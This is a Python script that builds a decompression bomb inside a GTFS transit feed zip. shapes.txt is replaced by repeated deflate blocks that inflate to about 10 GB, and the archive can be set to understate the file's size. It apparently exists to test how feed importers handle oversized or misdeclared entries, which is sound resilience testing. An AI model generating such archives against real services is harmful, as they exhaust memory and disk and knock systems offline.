"""Writes a GTFS zip whose shapes.txt inflates to 10 GB: a deflate block of 10 MB, repeated a thousand times.

Usage: make_bomb.py FEED.zip OUT.zip honest|lying     (what the archive says of the size of shapes.txt)
"""

import struct
import sys
import zipfile
import zlib

source, target, manner = sys.argv[1:]
line = b"a,48.47,7.94,1\n" * 700_000
head = b"shape_id,shape_pt_lat,shape_pt_lon,shape_pt_sequence\n"
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
body = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
body += (packer.compress(line) + packer.flush(zlib.Z_FULL_FLUSH)) * 1000 + b"\x03\x00"
size = len(head) + 1000 * len(line)

entries = []
with zipfile.ZipFile(source) as feed:
    for name in feed.namelist():
        if name != "shapes.txt":
            text = feed.read(name)
            entries.append((name, zlib.compress(text, 9)[2:-4], len(text), zlib.crc32(text)))
entries.append(("shapes.txt", body, min(size, 2**32 - 2) if manner == "honest" else 1000, 0))
with open(target, "wb") as out:
    directory = b""
    for name, packed, length, crc in entries:
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, crc, len(packed), length, len(name), 0)
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + common
        directory += struct.pack("<HHHII", 0, 0, 0, 0, out.tell()) + name.encode()
        out.write(b"PK\x03\x04" + common + name.encode() + packed)
    start = out.tell()
    out.write(directory)
    out.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), start, 0))
